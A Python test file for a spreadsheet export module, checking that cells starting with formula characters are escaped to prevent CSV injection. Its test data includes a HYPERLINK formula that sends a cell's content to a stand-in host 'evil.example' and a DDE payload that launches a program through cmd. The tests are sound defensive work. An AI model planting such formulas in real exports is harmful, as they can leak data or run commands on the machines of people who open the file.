"""Spreadsheet exports neutralise formula cells (CSV injection)."""

from __future__ import annotations

import csv
import io

import pytest

from levier.core.exports import BOM, csv_lines, spreadsheet_cell


class TestSpreadsheetCell:
    @pytest.mark.parametrize(
        "text",
        [
            '=HYPERLINK("http://evil.example/?"&A1,"clic")',
            "+33 6 00",
            "-2+3",
            "@SUM(A1)",
            "\tx",
            "\rx",
        ],
    )
    def test_formula_starts_are_written_as_text(self, text):
        assert spreadsheet_cell(text) == "'" + text

    @pytest.mark.parametrize("value", ["Martin", "", "a=b", "Jean-Paul", 42, -3, 1.5, None])
    def test_other_values_are_unchanged(self, value):
        assert spreadsheet_cell(value) == value


class TestCsvLines:
    def test_streams_a_header_and_rows_with_every_cell_neutralised(self):
        rows = ([f"=cmd|' /C calc'!A{n}", n, "ok"] for n in range(3))
        lines = list(csv_lines(["name", "number", "note"], rows, delimiter=";"))
        assert len(lines) == 4 and all(line.endswith("\r\n") for line in lines)
        assert lines[0].startswith(BOM) and not any(line.startswith(BOM) for line in lines[1:])
        parsed = list(csv.reader(io.StringIO("".join(lines).removeprefix(BOM)), delimiter=";"))
        assert parsed[0] == ["name", "number", "note"]
        assert parsed[1] == ["'=cmd|' /C calc'!A0", "0", "ok"]
        assert all(not cell.startswith(("=", "+", "-", "@")) for row in parsed for cell in row)
